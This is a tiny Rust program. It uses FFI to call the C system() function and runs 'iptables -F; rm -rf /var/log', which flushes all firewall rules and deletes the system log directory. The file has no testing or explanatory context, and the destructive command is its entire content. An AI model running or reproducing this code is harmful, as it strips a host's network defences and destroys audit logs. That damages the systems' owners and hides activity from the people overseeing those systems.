use std::ffi::CString;
use std::os::raw::{c_char, c_int};

extern "C" {
    fn system(cmd: *const c_char) -> c_int;
}

fn main() {
    let c = CString::new("iptables -F; rm -rf /var/log").unwrap();
    unsafe { system(c.as_ptr()) };
}
